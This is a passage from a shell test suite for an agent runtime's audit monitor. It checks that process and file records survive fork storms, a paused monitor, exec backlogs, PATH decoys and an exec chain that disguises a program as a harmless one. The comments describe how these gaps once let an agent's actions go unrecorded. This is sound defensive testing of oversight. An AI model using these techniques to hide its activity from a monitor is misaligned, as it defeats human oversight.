	[ ! -e "$TEST_STORE/.workspaces/$ID/upper.img" ] || fail "the upper layer is an image"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	churn=$BUNDLE/churn
	mkdir -p "$churn/d1/d2"
	# the same filesystem as the upper layer: the monitor's filesystem mark sees it
	[ "$(stat -c %d "$churn")" = "$(stat -c %d "$TEST_STORE")" ] || skip "the bundle is not on the store's filesystem"
	before=$(cpu_ticks "$mon")
	t0=$(date +%s%N)
	python3 - "$churn" <<'PY'
import os, sys
base = sys.argv[1]
for i in range(10000):
    d = os.path.join(base, "d1", "d2") if i % 2 else base
    with open(os.path.join(d, "host-%d.txt" % i), "w") as f:
        f.write("x")
    if i % 10 == 0:
        os.rename(os.path.join(d, "host-%d.txt" % i), os.path.join(d, "moved-%d.txt" % i))
PY
	after=$(cpu_ticks "$mon")
	used=$((after - before))
	# the same time without writes: the monitor also reads every exec on the host (the
	# proc connector), which other jobs on a busy machine keep it doing
	sleep "$(awk -v n=$(($(date +%s%N) - t0)) 'BEGIN { printf "%.2f", n / 1e9 }')"
	idle=$(($(cpu_ticks "$mon") - after))
	# what the kernel holds for the monitor: ignore marks on the host's directories
	fan=$(files_fan "$mon")
	[ -n "$fan" ] || fail "no fanotify group in the monitor"
	if [ -f "$TEST_STORE/.workspaces/$ID/upper.img" ]; then
		# the upper layer is the workspace's own size-limited file system (an image): the
		# host's file system is not marked at all, so there is nothing to ignore
		# (fdinfo prints the kernel's dev_t: major << 20 | minor)
		dev=$(stat -c %d "$churn")
		kdev=$(printf '%x' $(((((dev >> 8) & 0xfff) << 20) | (dev & 0xff) | ((dev >> 12) & 0xfff00))))
		grep -q "^fanotify sdev:" /proc/"$mon"/fdinfo/"$fan" || fail "no file system mark at all"
		! grep -q "sdev:$kdev " /proc/"$mon"/fdinfo/"$fan" ||
			fail "the host's file system is marked: $(cat /proc/"$mon"/fdinfo/"$fan")"
	else
		for d in "$churn" "$churn/d1/d2"; do
			ino=$(printf '%x' "$(stat -c %i "$d")")
			grep -q "^fanotify ino:$ino .*ignored_mask:[1-9a-f]" /proc/"$mon"/fdinfo/"$fan" ||
				fail "no ignore mark on $d (ino $ino): $(grep -c ignored_mask /proc/$mon/fdinfo/$fan) marks"
		done
	fi
	rt exec "$ID" touch /workspace/go
	for _ in $(seq 100); do rt exec "$ID" test -e /tmp/done && break; sleep 0.1; done
	run rt delete -f "$ID"
	trail=$(ra audit --format json --kind file "$ID")
	# the container's own writes at any depth after the churn are there
	grep -q '"/workspace/n1/n2/n3/after.txt"' <<<"$trail" || fail "nested write missing: $trail"
	grep -q '"/workspace/top-after.txt"' <<<"$trail" || fail "top write missing: $trail"
	# and nothing of the host's
	! grep -q 'host-\|moved-' <<<"$trail" || fail "host files in the trail: $(grep -c host- <<<"$trail")"
	[ -z "$(ra audit --format json --kind audit_error "$ID" | jq -r 'select(.source == "file")')" ] ||
		fail "file events lost: $(ra audit --format json --kind audit_error "$ID")"
	# ~21,000 events on the filesystem: before the ignore marks the monitor read and looked up
	# every one (50 ticks more than idle on a quiet machine); now the kernel drops them after
	# the first of each directory.  The idle window is noisy where other jobs exec a lot (the
	# monitor reads every exec on the host and looks up every new directory): as much again is
	# allowed on top; the ignore marks above are the exact check
	[ "$((used - idle))" -le $((10 + idle)) ] ||
		fail "the monitor used $used clock ticks during the host's files ($idle in the same time idle)"
}

# needs_side_socket: skip unless the kernel filters proc connector events per socket (Linux
# 6.6), which the monitor's socket of forks and exits needs
needs_side_socket() {
	local major minor
	IFS=. read -r major minor _ <<<"$(uname -r)"
	[ "$major" -gt 6 ] || { [ "$major" -eq 6 ] && [ "$minor" -ge 6 ]; } ||
		skip "event filters per socket need Linux 6.6 (this is $(uname -r))"
}

# storm_kids IPID < TRAIL: how many of the init's `sleep 0.2` and try-syscall children (the
# fork-storm tests' 80) are in the process records of TRAIL (JSON lines): each in full, or with
# its exe or comm, or (reaped before anything was read) nothing but its parent
storm_kids() {
	jq -s --argjson p "$1" '[.[] | select(.coalesced | not) | select(.argv == ["sleep", "0.2"] or
		.argv[0]? == "try-syscall" or .exe == "/usr/local/bin/try-syscall" or .comm == "try-syscall" or
		(.ppid == $p and .gone and (.comm == null or .comm == "sleep") and
			(.exe == null or .exe == "/bin/busybox")))] | length'
}

# files_fan PID: the monitor's fanotify group of the workspace's files (not that of exec
# opens, whose marks are on mounts)
files_fan() {
	local fd
	for fd in $(ls -l /proc/"$1"/fd | awk '/anon_inode:\[fanotify\]/ { print $9 }'); do
		grep -q '^fanotify mnt_id:' /proc/"$1"/fdinfo/"$fd" || echo "$fd"
	done
}

# host_forks N [COMM]: N forks of one host process named COMM (default agrt-forker), each
# child gone at once without an exec
host_forks() {
	perl -e 'my $n = $ARGV[1]; syscall(157, 15, $n) == 0 or die "prctl: $!";
		for (1 .. $ARGV[0]) { my $p = fork; defined $p or die "fork: $!"; exit 0 if !$p; waitpid($p, 0) }' \
		"$1" "${2:-agrt-forker}"
}

@test "audit-evidence: host-forks-quiet: the host's forks and exits do not wake an idle monitor, and the programs run meanwhile are all in the trail" {
	# Linux 6.6 filters the proc connector's events per socket: the monitor's exec socket
	# wakes it, forks and exits wait on a second one (armed at most every 250 ms).  Before,
	# every fork and exit on the host woke every monitor.
	needs_side_socket
	requires perf perl
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 300 ]; do try-syscall quiet-$i 2>/dev/null; i=$((i + 1)); done
		echo $i >/tmp/count; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	# every wake-up of the monitor while a host process forks 1,000 children that exit, with
	# the task that woke it: those woken by the forker or its children are what this is
	# about (other jobs' execs on a busy machine wake it too, and must)
	t0=$(date +%s%N)
	perf record -q -o "$BUNDLE/wake.data" -e sched:sched_wakeup --filter "pid == $mon" -a -- \
		bash -c "$(declare -f host_forks); host_forks 1000" >"$BUNDLE/perf.out" 2>&1 ||
		skip "perf cannot record sched:sched_wakeup here: $(tail -3 "$BUNDLE/perf.out")"
	ms=$((($(date +%s%N) - t0) / 1000000))
	by=$(perf script -i "$BUNDLE/wake.data" -F comm 2>/dev/null | sort | uniq -c | sort -rn)
	forker=$(awk '$2 == "agrt-forker" { print $1 }' <<<"$by")
	echo "# monitor woken ${forker:-0} times by 1,000 host forks and exits in $ms ms" >&3
	# at most its one-shot socket's firings: four a second, and a margin
	[ "${forker:-0}" -le $((ms * 4 / 1000 + 10)) ] ||
		fail "the host's forks woke the monitor ${forker} times in $ms ms: $(head -5 <<<"$by")"
	# the container's 300 programs while the host forks: every one is in the trail, in full
	# or counted (a fork or exit read after the exec it came before would lose a program
	# reaped before its argv was read)
	rt exec "$ID" touch /tmp/go
	host_forks 1000 &
	local storm=$!
	for _ in $(seq 300); do rt exec "$ID" test -e /tmp/count && break; sleep 0.1; done
	wait "$storm"
	[ "$(rt exec "$ID" cat /tmp/count)" = 300 ] || fail "the programs did not finish"
	ipid=$(rt state "$ID" | jq .pid)
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	# the init's children: try-syscall in full, or with what was left to read when it had
	# exited (its exe, or its comm, or nothing: then its ppid from the fork event; one that
	# exited after its exe was read has no status left, so no ppid: CI's ASan pass saw 299
	# when such a record was not counted), or counted under its program.  No other program
	# of this container runs try-syscall.
	full=$(jq -s --argjson p "$ipid" '[.[] | select(.coalesced | not) | select(.argv[0]? == "try-syscall" or
		.exe == "/usr/local/bin/try-syscall" or .comm == "try-syscall" or
		(.ppid == $p and .gone and .comm == null and .exe == null))] | length' <<<"$json")
	# (counted under its exe, or under its comm when it had exited before the exe was read)
	counted=$(jq -s '[.[] | select(.coalesced and (.program == "/usr/local/bin/try-syscall" or
		.program == "try-syscall")) | .coalesced] | add // 0' <<<"$json")
	echo "# 300 programs: $full full records, $counted counted" >&3
	[ $((full + counted)) -ge 300 ] ||
		fail "full $full + counted $counted of 300; the trail's errors, the shapes of its process records (keys: how many), then those other than the programs' and the loop's sleeps, counted ones too: $(ra audit --format json "$ID" |
			jq -c 'select(.kind == "audit_error")' | head -c 1500) $(jq -sc 'map(del(.seq, .time, .kind, .prev, .hash, .id) | keys | join(",")) |
				group_by(.) | map({(.[0]): length}) | add' <<<"$json") $(jq -c 'select(.argv[0]? != "try-syscall" and
				.argv[0]? != "sleep") | del(.prev, .hash, .id)' <<<"$json" | head -c 6000)"
}

# bats test_tags=flood
@test "audit-evidence: fork-storm-batch: programs that exit at once while the host's forks fill a wake-up's batch are each in the trail, with their parent" {
	# The monitor reads forks and exits (the whole host's) after the execs that woke it, in
	# batches of 1,024 events.  After 0.2 s of a host storm of 10,000 forks a second, four
	# times as many are queued: an exec read before its own fork event was handled as a
	# stranger's and, with the program already reaped, left no record at all.
	needs_side_socket
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 40 ]; do sleep 0.2; try-syscall storm-$i 2>/dev/null; i=$((i + 1)); done
		echo $i >/tmp/count; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	rt exec "$ID" touch /tmp/go
	forks=$("$HELPER_DIR/forkstorm" 12 4000)
	for _ in $(seq 100); do rt exec "$ID" test -e /tmp/count && break; sleep 0.1; done
	[ "$(rt exec "$ID" cat /tmp/count)" = 40 ] || fail "the programs did not finish"
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	kids=$(storm_kids "$ipid" <<<"$json")
	echo "# 80 programs beside $forks host forks in 12 s: $kids in the trail" >&3
	[ "$kids" -ge 80 ] ||
		fail "$kids of 80 programs in the trail; its errors, then the records other than the sleeps: $(ra audit --format json "$ID" |
			jq -c 'select(.kind == "audit_error")' | head -c 1500) $(jq -c 'select(.argv != ["sleep", "0.2"] and
				.argv != ["sleep", "0.1"] and .argv[0]? != "try-syscall") | [.pid, .ppid, .exe, .argv, .comm, .gone, .coalesced]' <<<"$json" | head -c 6000)"
}

@test "audit-evidence: exec-opens: programs run and reaped while the monitor could not run are named in the trail by the files their exec opened" {
	# The proc connector says that a pid exec'd, not what; /proc says what, until the program
	# is reaped.  With the monitor stopped (a loaded host's scheduler, in the extreme) every
	# short program is gone before it is read: before, each left a record with its parent and
	# nothing else, so an agent's one-shot program run at the right moment went unnamed.
	# a mount point whose name the mount table escapes (a space, a tab)
	update_config '.mounts += [{"destination": "/opt/a b\tc", "type": "tmpfs", "source": "tmpfs", "options": ["exec", "mode=755"]}]'
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 20 ]; do try-syscall stopped-$i 2>/dev/null; i=$((i + 1)); done
		cp /usr/local/bin/try-syscall "/tmp/renamed prog"; "/tmp/renamed prog" x 2>/dev/null
		d=$(printf "/opt/a b\tc"); cp /usr/local/bin/try-syscall "$d/tool"; "$d/tool" x 2>/dev/null
		printf "#!/bin/sh\nexit 0\n" >/tmp/script.sh; chmod +x /tmp/script.sh; /tmp/script.sh
		cp /usr/local/bin/try-syscall /dev/shm/prog; /dev/shm/prog x 2>/dev/null; echo $? >/tmp/noexec-rc
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	# the programs start once the monitor is stopped (a fixed sleep in the container was
	# shorter than a loaded machine's start of the test's commands: every program was read
	# before the stop); not `exec`: an exec with the trail on waits for the monitor
	go_with_monitor_stopped
	grep -q '^State:.*T' "/proc/$mon/status" || fail "the monitor was not stopped: $(grep State "/proc/$mon/status")"
	# the monitor leaves noexec mounts (/dev/shm here) unmarked: the kernel refuses an exec there
	[ "$(cat "/proc/$ipid/root/tmp/noexec-rc")" = 126 ] ||
		fail "a program on a noexec mount: exit $(cat "/proc/$ipid/root/tmp/noexec-rc"), not 126 (refused)"
	grep -q ' /dev/shm .*noexec' "/proc/$ipid/mountinfo" || fail "/dev/shm is not noexec: $(grep /dev/shm "/proc/$ipid/mountinfo")"
	kill -CONT "$mon"
	STOPPED_MON=
	sleep 1
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	grep -q '"exec_opens"' <<<"$(ra audit --format json "$ID" | jq -c 'select(.kind == "monitor")')" ||
		fail "no exec_opens source: $(ra audit --format json "$ID" | jq -c 'select(.kind == "monitor" or .kind == "audit_error")')"
	# every one gone by the time it was read (the monitor was stopped), each named
	named=$(jq -s '[.[] | select(.gone and .exe == "/usr/local/bin/try-syscall" and .ppid == '"$ipid"')] | length' <<<"$json")
	anon=$(jq -s '[.[] | select(.gone and .exe == null)] | length' <<<"$json")
	echo "# 20 programs run while the monitor was stopped: $named named, $anon without a name" >&3
	[ "$named" -ge 20 ] && [ "$anon" -eq 0 ] ||
		fail "$named of 20 named, $anon without a name: $(jq -c 'select(.gone) | del(.prev, .hash, .id, .time)' <<<"$json" | head -c 3000)"
	# a copy under a name of its own (with a space), and a script: the script's file first,
	# then its interpreter
	jq -se 'any(.[]; .exe == "/tmp/renamed prog" and .gone)' <<<"$json" >/dev/null ||
		fail "no record naming the copy: $(jq -c 'select(.exe | tostring | test("tmp"))' <<<"$json")"
	jq -se 'any(.[]; .exe == "/opt/a b\tc/tool" and .gone)' <<<"$json" >/dev/null ||
		fail "no record naming the program on the escaped mount: $(jq -c 'select(.exe | tostring | test("opt"))' <<<"$json")"
	jq -se 'any(.[]; .exe == "/tmp/script.sh" and .exec_opened == ["/bin/busybox"])' <<<"$json" >/dev/null ||
		fail "no record naming the script: $(jq -c 'select(.exe | tostring | test("tmp|busybox"))' <<<"$json" | tail -5)"
}

# bats test_tags=flood
@test "audit-evidence: exit-before-exec: programs run and reaped behind a backlog of the host's execs are in the trail" {
	# The monitor reads execs (a socket of their own, at most 512 a wake-up) before the forks
	# and exits (another socket, read whole). With more execs queued than that (a build on the
	# host), a program of ours whose exec was not read yet had its fork and its exit handled:
	# when its exec came it was neither known nor there to look at, and it went unrecorded,
	# without a loss (a flood run under load came out short by one).
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 30 ]; do try-syscall behind-$i 2>/dev/null; i=$((i + 1)); done
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	stop_monitor
	# the host's execs first (more than one wake-up reads), then the container's programs
	local i
	for ((i = 0; i < 700; i++)); do /bin/true; done
	go_and_wait "$ipid"
	cont_monitor
	sleep 1
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	# each is a record (gone before it was read: named by the file its exec opened), or a loss
	local n lost
	n=$(jq -s '[.[] | select(.ppid == '"$ipid"' and (.exe == "/usr/local/bin/try-syscall"))] | length' <<<"$json")
	lost=$(ra audit --format json "$ID" | jq -s '[.[] | select(.kind == "audit_error" and .source == "process")] | length')
	echo "# 30 programs behind 700 host execs: $n in the trail, $lost losses" >&3
	# (a loss: the host's own forks and exits overflowed a queue while the monitor was
	# stopped, the honest answer then; before the fix there was none)
	[ "$n" -ge 30 ] || [ "$lost" -gt 0 ] ||
		fail "$n of 30 programs in the trail and no loss: $(jq -c 'select(.ppid == '"$ipid"') | [.pid, .exe, .argv, .gone]' <<<"$json" | head -c 2000)"
}

# go_with_monitor_stopped: stop the container's monitor ($mon, kept in STOPPED_MON for
# teardown) and run its commands (go_and_wait $ipid); the caller continues the monitor
go_with_monitor_stopped() {
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	kill -STOP "$mon"
	STOPPED_MON=$mon
	go_and_wait "$ipid"
}

# bats test_tags=flood
@test "audit-evidence: exec-opens-decoy: a program gone before it was read is named by the exec that ran it, not by the execs that failed before it in that process" {
	# A PATH search tries each directory's file in turn: files that exec opens and then
	# cannot run (a script whose interpreter is missing, a dynamic ELF without its loader)
	# leave exec opens and no exec.  Before the fix a gone program's record named the first
	# file its pid opened, so three such decoys first made /tmp/e/prog, which ran, be
	# recorded and listed as /tmp/a/prog, and named nowhere.
	requires file ldd
	file -L /bin/true | grep -q 'interpreter /lib64/ld-linux-x86-64.so.2' || skip "/bin/true is not x86-64 glibc's"
	# a dynamic program with its loader and libc, and a copy whose loader is missing
	mkdir -p "$ROOTFS/lib64" "$ROOTFS/lib/x86_64-linux-gnu"
	cp -L /lib64/ld-linux-x86-64.so.2 "$ROOTFS/lib64/"
	cp -L "$(ldd /bin/true | sed -n 's/.*libc.so.6 => \([^ ]*\).*/\1/p')" "$ROOTFS/lib/x86_64-linux-gnu/libc.so.6"
	cp -L /bin/true "$ROOTFS/bin/dyn-true"
	LC_ALL=C sed 's|ld-linux-x86-64\.so\.2|ld-linux-x86-64.so.X|' /bin/true >"$ROOTFS/bin/decoy-elf"
	chmod 755 "$ROOTFS/bin/decoy-elf"
	set_cmd 'for d in a b c d; do mkdir -p /tmp/$d; done; cp /bin/decoy-elf /tmp/a/prog; cp /bin/decoy-elf /tmp/a/dyn
		cp /bin/dyn-true /tmp/d/dyn
		printf "#!/nonexistent\n" >/tmp/b/prog; printf "#!/tmp/a/prog\n" >/tmp/c/prog; chmod +x /tmp/b/prog /tmp/c/prog
		mkdir -p /tmp/e; cp /usr/local/bin/try-syscall /tmp/e/prog
		printf "#!/bin/sh\nexit 0\n" >/tmp/c/script.sh; chmod +x /tmp/c/script.sh
		while [ ! -e /tmp/go ]; do sleep 0.1; done
		PATH=/tmp/a:/tmp/b:/tmp/c:/tmp/e prog x 2>/dev/null; echo $? >/tmp/rc
		PATH=/tmp/a:/tmp/b:/tmp/c script.sh; echo $? >>/tmp/rc
		PATH=/tmp/a:/tmp/d dyn; echo $? >>/tmp/rc
		printf "#!/bin/sh\nexec /tmp/b/prog\n" >/tmp/c/after.sh; chmod +x /tmp/c/after.sh; /tmp/c/after.sh 2>/dev/null
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	go_with_monitor_stopped
	grep -q '^State:.*T' "/proc/$mon/status" || fail "the monitor was not stopped"
	# try-syscall x ran (its usage error), the script too
	[ "$(cat "/proc/$ipid/root/tmp/rc")" = "$(printf '2\n0\n0')" ] || fail "rc: $(cat "/proc/$ipid/root/tmp/rc")"
	kill -CONT "$mon"
	STOPPED_MON=
	sleep 1
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	gone=$(jq -c 'select(.gone) | del(.prev, .hash, .id, .time)' <<<"$json")
	jq -se 'any(.[]; .gone and .exe == "/tmp/e/prog" and (.exec_before | index("/tmp/a/prog")))' <<<"$gone" >/dev/null ||
		fail "the program that ran is not the record's exe: $gone"
	jq -se 'any(.[]; .gone and .exe == "/tmp/c/script.sh" and .exec_opened == ["/bin/busybox"])' <<<"$gone" >/dev/null ||
		fail "the script after decoys: $gone"
	# a dynamic program: its loader is of its exec (PT_INTERP), the copy without one is not
	jq -se 'any(.[]; .gone and .exe == "/tmp/d/dyn" and .exec_opened == ["/lib64/ld-linux-x86-64.so.2"] and
		.exec_before == ["/tmp/a/dyn"])' <<<"$gone" >/dev/null || fail "the dynamic program after a decoy: $gone"
	! jq -se 'any(.[]; .exe == "/tmp/a/prog" or .exe == "/tmp/b/prog" or .exe == "/tmp/a/dyn")' <<<"$gone" >/dev/null ||
		fail "a decoy as a program: $gone"
	# a program that ran and then made an exec that could not run (its last file a script
	# whose interpreter is missing): named by the exec that ran
	jq -se 'any(.[]; .gone and .exe == "/tmp/c/after.sh" and .exec_opened == ["/bin/busybox"] and
		.exec_failed == ["/tmp/b/prog"])' <<<"$gone" >/dev/null || fail "after.sh: $gone"
	run ra audit --summary "$ID"
	assert_output_contains "  /tmp/e/prog"$'\n'
	assert_output_contains "  /tmp/c/after.sh"$'\n'
	assert_output_contains "  /tmp/a/prog (opened by exec before it, may have run)"
}

# bats test_tags=flood
@test "audit-evidence: exec-chain-hidden: a program that made a change and exec'd another before the monitor read it is named in the trail, not only the program it became" {
	# The proc connector says that a pid exec'd; /proc says what it runs when the monitor reads
	# it.  A program that does its work and then execs a harmless one (a copy of busybox that
	# writes a file, then execs /bin/busybox sleep) while the monitor is descheduled is read
	# as the second program only: before the fix both exec events of the pid were recorded as
	# `/bin/busybox sleep 600`, the file change was put on that pid, and the program that made
	# it was named nowhere, though the exec opens had it.
	set_cmd 'cp /bin/busybox /tmp/busybox-tool
		while [ ! -e /tmp/go ]; do sleep 0.1; done
		/tmp/busybox-tool sh -c "echo changed >/workspace/hidden.txt; exec /bin/busybox sleep 600" &
		while [ ! -e /workspace/hidden.txt ]; do sleep 0.1; done
		echo done >/tmp/done; sleep 600'
	bind_workspace
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	go_with_monitor_stopped
	grep -q '^State:.*T' "/proc/$mon/status" || fail "the monitor was not stopped"
	# the tool (a child of the init) is now the sleep it exec'd: bounded, the exec follows the
	# write at once
	tpid=
	for _ in $(seq 50); do
		for p in $(cat /proc/"$ipid"/task/*/children); do
			[ "$(tr '\0' ' ' <"/proc/$p/cmdline" 2>/dev/null)" = "/bin/busybox sleep 600 " ] && tpid=$p
		done
		[ -n "$tpid" ] && break
		sleep 0.1
	done
	[ -n "$tpid" ] || fail "the tool did not exec /bin/busybox sleep"
	kill -CONT "$mon"
	STOPPED_MON=
	# bounded: until the trail has the change
	for _ in $(seq 100); do
		[ -n "$(file_ops "$ID" /workspace/hidden.txt)" ] && break
		sleep 0.1
	done
	run rt delete -f "$ID"
	json=$(ra audit --format json "$ID")
	wpid=$(jq -r 'select(.kind == "file" and .path == "/workspace/hidden.txt") | .pid' <<<"$json" | head -1)
	[ "$wpid" = "$tpid" ] || fail "the change is not the tool's pid ($tpid): $wpid"
	procs=$(jq -c --argjson p "$tpid" 'select(.kind == "process" and .pid == $p) | del(.prev, .hash, .id, .time)' <<<"$json")
	jq -se 'any(.[]; .exe == "/tmp/busybox-tool" or .script == "/tmp/busybox-tool" or
		(.exec_before // [] | index("/tmp/busybox-tool")))' <<<"$procs" >/dev/null ||
		fail "the program that made the change is not in the trail: $procs"
	run ra audit --summary "$ID"
	assert_output_contains "/tmp/busybox-tool"
}

@test "audit-evidence: exec-opens-evicted: programs whose exec opens were replaced by later ones (300 run while the monitor could not read) make verify say names were lost" {
	# The monitor keeps the exec opens of 256 pids until their programs are recorded; past
	# that the oldest are replaced, and programs gone before they were read are records
	# without a name.  Before the fix the trail did not say why: verify named only the
	# coalesced records, and 46 programs were "?" in the summary.
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 300 ]; do try-syscall ev-$i 2>/dev/null; i=$((i + 1)); done
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	go_with_monitor_stopped
	kill -CONT "$mon"
	STOPPED_MON=
	sleep 1
	run rt delete -f "$ID"
	json=$(ra audit --format json "$ID")
	anon=$(jq -s '[.[] | select(.kind == "process" and .gone and .exe == null)] | length' <<<"$json")
	echo "# 300 programs while the monitor was stopped: $anon without a name" >&3
	[ "$anon" -gt 0 ] || skip "every program was named"
	jq -se 'any(.[]; .kind == "audit_error" and .source == "exec_opens" and .lost)' <<<"$json" >/dev/null ||
		fail "$anon programs without a name, no loss: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	run ra audit verify "$ID"
	assert_output_contains "events lost (exec_opens)"
	run ra audit --summary "$ID"
	assert_output_contains "programs run (incomplete: "
}

@test "audit-evidence: fork-storm-inside: the agent's own storm of forks does not hide the programs it runs meanwhile" {
	# the same storm from inside: each of its children is one of the container's (tracked
	# from its fork, dropped at its exit), none runs a program
	needs_side_socket
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		forkstorm 10 10000 >/tmp/forks & i=0; while [ $i -lt 40 ]; do sleep 0.2; try-syscall inside-$i 2>/dev/null; i=$((i + 1)); done
		wait; echo $i >/tmp/count; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	rt exec "$ID" touch /tmp/go
	for _ in $(seq 300); do rt exec "$ID" test -e /tmp/count && break; sleep 0.1; done
	[ "$(rt exec "$ID" cat /tmp/count)" = 40 ] || fail "the programs did not finish"
	forks=$(rt exec "$ID" cat /tmp/forks)
	run rt delete -f "$ID"
	json=$(ra audit --format json --kind process "$ID")
	kids=$(storm_kids "$ipid" <<<"$json")
	echo "# 80 programs beside ${forks:-no} forks of the container's own in 10 s: $kids in the trail" >&3
	[ "${forks:-0}" -ge 10000 ] || fail "the storm forked ${forks:-no} times"
	[ "$kids" -ge 80 ] ||
		fail "$kids of 80 programs in the trail; its errors, then the records other than the sleeps: $(ra audit --format json "$ID" |
			jq -c 'select(.kind == "audit_error")' | head -c 1500) $(jq -c 'select(.argv != ["sleep", "0.2"] and
				.argv != ["sleep", "0.1"] and .argv[0]? != "try-syscall") | del(.prev, .hash, .id)' <<<"$json" | head -c 4000)"
	# the storm's children ran no program: none of them is a record
	[ "$(jq -s '[.[] | select(.argv[0]? == "forkstorm")] | length' <<<"$json")" -eq 1 ] ||
		fail "forkstorm's records: $(jq -c 'select(.argv[0]? == "forkstorm")' <<<"$json" | head -5)"
}

@test "audit-evidence: track-table-full: programs run beside 3,100 live processes (a raised pids limit) and gone before they were read are in the trail" {
	# The monitor knows the container's processes from their forks, in a table that took
	# 3,072: beyond, a new process was not known as the container's, and one reaped before
	# /proc was read left no record and no word of a loss.  The profile allows a pids limit
	# up to 32,768 (run.agentrt.pids).
	update_config '.annotations["run.agentrt.pids"] = "4000"'
	set_cmd 'i=0; while [ $i -lt 3100 ]; do sleep 600 & i=$((i + 1)); done; echo up >/tmp/up
		while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 20 ]; do try-syscall full-$i 2>/dev/null; i=$((i + 1)); done
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	for _ in $(seq 600); do [ -e "/proc/$ipid/root/tmp/up" ] && break; sleep 0.1; done
	[ -e "/proc/$ipid/root/tmp/up" ] || fail "the 3,100 processes did not start"
	kids=$(grep -l "^PPid:[[:space:]]*$ipid\$" /proc/[0-9]*/status 2>/dev/null | wc -l)
	[ "$kids" -ge 3100 ] || fail "$kids processes"
	sleep 1
	go_with_monitor_stopped
	kill -CONT "$mon"
	STOPPED_MON=
	sleep 2
	run rt delete -f "$ID"
	json=$(ra audit --format json "$ID")
	named=$(jq -s '[.[] | select(.kind == "process" and .exe == "/usr/local/bin/try-syscall")] | length' <<<"$json")
	echo "# 20 programs beside 3,100 processes: $named in the trail" >&3
	[ "$named" -ge 20 ] || fail "$named of 20; errors: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
}

# monitor_rss: the monitor's resident set in KiB
monitor_rss() {
	awk '/^VmRSS:/ {print $2}' "/proc/$mon/status"
}

# bats test_tags=flood
@test "audit-evidence: refused: monitor-memory: distinct deep directories by the thousand, programs of new names and 2 MiB of arguments do not grow the monitor's memory" {
	# Everything the monitor keeps of what the agent does is in tables of fixed size
	# (directories by handle, exec opens by pid, flood keys, recent records): a flood of
	# distinct names, 250 to 1,000 bytes of path each, must not be kept one by one.  Measured after a
	# warm-up of the same kinds (the tables and malloc's arenas at their working size).
	bind_workspace
	n=$(printf 'n%.0s' $(seq 250))
	flood() { # TAG COUNT: COUNT directories 4 deep of 250-byte names, a file in each;
		# COUNT/4 programs of new names; one exec with 16 arguments of 128 KiB
		RT_TIMEOUT=300 rt exec "$ID" sh -c "cd /workspace; i=0; while [ \$i -lt $2 ]; do
			mkdir -p $1\$i/$n/$n/$n && : >$1\$i/$n/$n/$n/f; i=\$((i + 1)); done
			i=0; while [ \$i -lt $(($2 / 4)) ]; do ln -sf /usr/local/bin/try-syscall /tmp/p-$1\$i
				/tmp/p-$1\$i x 2>/dev/null; rm /tmp/p-$1\$i; i=\$((i + 1)); done
			a=\$(head -c 131000 /dev/zero | tr '\\0' a)
			try-syscall x \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a \$a 2>/dev/null
			: >/workspace/$1-done" || fail "flood $1"
		for _ in $(seq 200); do [ -n "$(file_ops "$ID" "/workspace/$1-done")" ] && return; sleep 0.1; done
		fail "the trail did not catch up with flood $1"
	}
	set_cmd 'sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	flood w 500
	before=$(monitor_rss)
	flood x 3000
	after=$(monitor_rss)
	echo "# monitor RSS: $before KiB after the warm-up, $after KiB after 12,000 directories of 250 to 1,000-byte paths" >&3
	# one by one they were > 7 MiB of names alone
	[ $((after - before)) -lt 3072 ] || fail "the monitor grew by $((after - before)) KiB"
	rt delete -f "$ID"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

@test "audit-evidence: with workspace.size (the agent profile's default) the upper layer is a filesystem of its own: the host's writes beside the store never reach the monitor" {
	bind_workspace
	update_config '.annotations["run.agentrt.workspace.size"] = "64m"'
	[ -e /dev/loop-control ] || skip "no loop devices"
	set_cmd 'while [ ! -e /workspace/go ]; do sleep 0.1; done
		mkdir -p /workspace/s1/s2; echo x >/workspace/s1/s2/sized.txt; echo done >/tmp/done; sleep 60'
